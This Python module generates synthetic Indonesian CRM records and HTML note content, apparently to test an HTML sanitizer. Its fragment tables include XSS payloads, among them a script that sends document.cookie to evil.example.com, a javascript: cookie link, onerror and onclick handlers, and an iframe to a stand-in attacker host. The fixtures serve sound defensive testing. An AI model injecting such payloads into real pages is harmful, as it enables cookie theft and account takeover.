"""Fake Indonesian-ish names and rich-HTML note content for the synthetic CRM."""

from __future__ import annotations

import random

FIRST_NAMES = (
    "Budi",
    "Siti",
    "Agus",
    "Dewi",
    "Rina",
    "Andi",
    "Putri",
    "Wahyu",
    "Sri",
    "Eko",
    "Nur",
    "Fajar",
    "Indah",
    "Joko",
    "Ayu",
    "Rizki",
    "Yuni",
    "Hendra",
    "Lestari",
    "Bayu",
    "Ratna",
    "Dimas",
    "Wulan",
    "Taufik",
    "Maya",
    "Ketut",
    "Made",
    "Nyoman",
    "Teguh",
    "Citra",
)
LAST_NAMES = (
    "Santoso",
    "Wijaya",
    "Saputra",
    "Pratama",
    "Hidayat",
    "Kusuma",
    "Nugroho",
    "Siregar",
    "Simanjuntak",
    "Hasibuan",
    "Wibowo",
    "Setiawan",
    "Gunawan",
    "Susanto",
    "Rahman",
    "Harahap",
    "Sembiring",
    "Tanjung",
    "Halim",
    "Purnomo",
)
COMPANY_WORDS = (
    "Maju",
    "Jaya",
    "Sentosa",
    "Abadi",
    "Makmur",
    "Sejahtera",
    "Nusantara",
    "Mandiri",
    "Sinar",
    "Karya",
    "Prima",
    "Utama",
    "Cahaya",
    "Bintang",
    "Samudra",
)
CITIES = ("Jakarta", "Surabaya", "Bandung", "Medan", "Makassar", "Denpasar", "Yogyakarta")

SENTENCES = (
    "Follow up penawaran harga minggu depan.",
    "Pelanggan meminta demo produk untuk tim sales.",
    "Sudah dihubungi via telepon, belum diangkat.",
    "Jadwalkan meeting di kantor cabang.",
    "Kirim invoice ke bagian keuangan sebelum tanggal 25.",
    "Catatan: harga naik 10% mulai bulan depan.",
    "Customer tertarik paket premium, minta diskon.",
    "Diskusi dengan PT Sinar & Co tentang perpanjangan kontrak.",
    "Pembayaran DP sudah diterima, lanjut proses pengiriman.",
    "Klien minta dikirimi katalog terbaru lewat email.",
    "Keluhan: barang terlambat 3 hari, sudah dieskalasi.",
    "Prospek bagus, budget sudah disetujui direksi.",
)
UNICODE_SENTENCES = (
    "Terima kasih atas waktunya 🙏",
    "Pelanggan senang sekali dengan layanan kita 😊👍",
    "Sudah telepon 📞, lanjut kirim penawaran ✉️",
    "Target kuartal ini tercapai 🎉 — mantap!",
    "Rapat di Café Kopi Kenangan, harga ≥ Rp 5.000.000 ✅",
)

# Body fragments: every note has at least one of these (so it is never empty).
TEXT_FRAGMENTS = {
    "paragraph": 40,
    "plain_text": 15,
    "list": 12,
    "bold_italic": 10,
    "unicode": 10,
    "line_break": 8,
    "heading_quote": 5,
}
# Optional extras mixed into a note (links, mentions, unsafe markup).
EXTRA_FRAGMENTS = {
    "link_https": 10,
    "link_http": 4,
    "link_mailto": 5,
    "link_javascript": 2,
    "mention_data_user_id": 8,
    "mention_href": 6,
    "style": 8,
    "script": 3,
    "event_onclick": 3,
    "event_img_onerror": 3,
    "iframe": 1,
}
# Content that sanitizes to nothing (NOTE_EMPTY). ``None`` is a NULL column.
EMPTY_VARIANTS = (
    "",
    "   \n\t  ",
    "<script>alert('xss')</script>",
    "<img src=x onerror=alert(1)>",
    None,
)
MENTION_HREF_BASE = "https://crm.example.com/users"


def person_name(rng: random.Random) -> str:
    """A random full name."""
    return f"{rng.choice(FIRST_NAMES)} {rng.choice(LAST_NAMES)}"


def email_for(name: str, serial: int, domain: str) -> str:
    """A deterministic lowercase e-mail for a name."""
    local = ".".join(name.lower().split())
    return f"{local}{serial}@{domain}"


def company_name(rng: random.Random) -> str:
    """A random Indonesian-style company name."""
    return f"PT {rng.choice(COMPANY_WORDS)} {rng.choice(COMPANY_WORDS)}"


def address(rng: random.Random) -> str:
    """A random street address."""
    street = rng.choice(("Jl. Sudirman", "Jl. Thamrin", "Jl. Gatot Subroto", "Jl. Diponegoro"))
    return f"{street} No. {rng.randint(1, 250)}, {rng.choice(CITIES)}"


def pick_fragments(rng: random.Random) -> list[str]:
    """Random fragment plan for one ordinary note: one body fragment plus 0-2 extras."""
    names = [_weighted(rng, TEXT_FRAGMENTS)]
    if rng.random() < 0.35:
        names.append(_weighted(rng, EXTRA_FRAGMENTS))
        if rng.random() < 0.25:
            names.append(_weighted(rng, EXTRA_FRAGMENTS))
    return names


def _weighted(rng: random.Random, weights: dict[str, int]) -> str:
    """One key of ``weights`` drawn by weight."""
    return rng.choices(list(weights), weights=list(weights.values()))[0]


def render(fragments: list[str], rng: random.Random, mention: tuple[int, str]) -> str:
    """HTML for a fragment plan; ``mention`` is a (CRM user id, name) to @-mention."""
    return "".join(_render_one(name, rng, mention) for name in fragments)


STATIC_FRAGMENTS = {
    "link_https": '<p>Detail: <a href="https://www.example.co.id/katalog">katalog</a></p>',
    "link_http": '<p>Lihat <a href="http://legacy.example.com/promo">promo</a></p>',
    "link_mailto": '<p>Email ke <a href="mailto:sales@example.co.id">sales</a></p>',
    "link_javascript": '<p><a href="javascript:alert(document.cookie)">klik di sini</a></p>',
    "script": "<script>fetch('https://evil.example.com/?c='+document.cookie)</script>",
    "event_img_onerror": "<img src=x onerror=\"alert('xss')\">",
    "iframe": '<iframe src="https://evil.example.com/frame"></iframe>',
}


def _render_one(name: str, rng: random.Random, mention: tuple[int, str]) -> str:
    """HTML for one fragment."""
    if name in STATIC_FRAGMENTS:
        return STATIC_FRAGMENTS[name]
    s = _esc(rng.choice(SENTENCES))
    uid, uname = mention
    if name == "paragraph":
        return f"<p>{s}</p>"
    if name == "plain_text":
        return s
    if name == "list":
        return _list(rng)
    if name == "bold_italic":
        return f"<p><b>Penting:</b> {s} <i>segera</i>, <strong>hari ini</strong> <em>ya</em></p>"
    if name == "unicode":
        return f"<p>{rng.choice(UNICODE_SENTENCES)}</p>"
    if name == "line_break":
        return f"<div>{s}<br>{_esc(rng.choice(SENTENCES))}</div>"
    if name == "heading_quote":
        return f"<h3>Ringkasan</h3><blockquote>{s}</blockquote>"
    if name == "mention_data_user_id":
        return f'<p>cc <a data-user-id="{uid}">@{uname}</a> tolong cek</p>'
    if name == "mention_href":
        href = f"{MENTION_HREF_BASE}/{uid}/edit_user"
        return f'<p>Halo <a href="{href}">@{uname}</a>, mohon follow up</p>'
    if name == "style":
        return (
            f'<p style="color:#c00;font-weight:bold">{s}</p>'
            '<span style="background:yellow">urgent</span>'
        )
    if name == "event_onclick":
        return f'<div onclick="alert(1)">{s}</div>'
    raise ValueError(f"unknown fragment {name!r}")


def _list(rng: random.Random) -> str:
    """An ordered or unordered list of 2-4 items."""
    tag = rng.choice(("ul", "ol"))
    items = "".join(f"<li>{_esc(rng.choice(SENTENCES))}</li>" for _ in range(rng.randint(2, 4)))
    return f"<{tag}>{items}</{tag}>"


def _esc(text: str) -> str:
    """Escape text for HTML element content."""
    return text.replace("&", "&amp;").replace("<", "&lt;").replace(">", "&gt;")


def too_long_note(rng: random.Random) -> str:
    """Plain paragraphs totalling 10,500-14,000 characters of safe content (NOTE_TOO_LONG)."""
    target = rng.randint(10_500, 14_000)
    return _paragraphs(rng, target)


def long_ok_note(rng: random.Random) -> str:
    """About 8,000 characters of safe content plus a big script: long raw, fine once sanitized."""
    script = "<script>" + "var x = 'padding';" * 300 + "</script>"
    return _paragraphs(rng, 8_000) + script


def _paragraphs(rng: random.Random, target: int) -> str:
    """``<p>`` paragraphs of plain ASCII sentences until ``target`` characters."""
    parts: list[str] = []
    size = 0
    plain = [s for s in SENTENCES if "&" not in s]
    while size < target:
        para = "<p>" + " ".join(rng.choice(plain) for _ in range(6)) + "</p>"
        parts.append(para)
        size += len(para)
    return "".join(parts)
